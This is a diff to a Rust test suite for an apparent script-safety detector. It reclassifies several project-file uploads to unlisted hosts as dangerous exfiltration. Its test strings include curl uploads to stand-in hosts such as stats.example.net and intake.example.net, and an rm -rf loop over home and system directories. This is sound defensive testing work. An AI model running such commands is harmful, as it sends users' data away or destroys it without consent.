@@ -830,11 +830,13 @@ fn recursive_walkers_keep_their_roots() {
         Dangerous,
         "exfiltration",
     );
+    // The project's reports, each file's whole content, to a host no list vouches for
+    // (recall51: project-data-to-network).
     check(
         Py,
         &py_walker("['reports', 'coverage']"),
-        Suspicious,
-        "network",
+        Dangerous,
+        "exfiltration",
     );
 }
 
@@ -1106,9 +1108,10 @@ fn shell_functions_called_with_known_arguments() {
             "exfiltration",
         ),
         (
+            // The project's file itself to a host no list vouches for (recall51).
             "attach() { curl -fsS -F \"f=@$1\" https://stats.example.net/up; }\nattach build/report.xml\n",
-            Suspicious,
-            "network",
+            Dangerous,
+            "exfiltration",
         ),
         (
             "wipe() { rm -rf \"$1\"; }\nfor d in build \"$HOME/.cache/x\" /opt/app; do wipe \"$d\"; done\n",
@@ -1471,11 +1474,13 @@ fn python_remote_file_transfer() {
         Dangerous,
         "exfiltration",
     );
+    // The project's own archive put on a host no list vouches for: its files taken away
+    // (recall51: project-data-to-network).
     check(
         Py,
         &deploy("['dist/app.tgz']", "staging.example-unlisted.dev"),
-        Suspicious,
-        "network",
+        Dangerous,
+        "exfiltration",
     );
     check(
         Py,
@@ -8104,12 +8109,13 @@ fn an_archive_of_a_copied_credential_holds_it() {
             Dangerous,
             "exfiltration",
         ),
-        // the project's own files packed and sent to a host nobody vouches for: suspicious
+        // the project's own files packed and sent to a host nobody vouches for: the
+        // project's data taken away (recall51: project-data-to-network), no credential
         (
             Sh,
             "#!/bin/bash\nD=\"$PWD/diag/now\"\nmkdir -p \"$D\"\ncp package.json \"$D/\"\ntar -C \"$(dirname \"$D\")\" -czf \"$D.tgz\" now\ncurl -s -F \"b=@$D.tgz\" https://intake.example.net/b\n",
-            Suspicious,
-            "network",
+            Dangerous,
+            "exfiltration",
         ),
     ];
     check_all(rows);
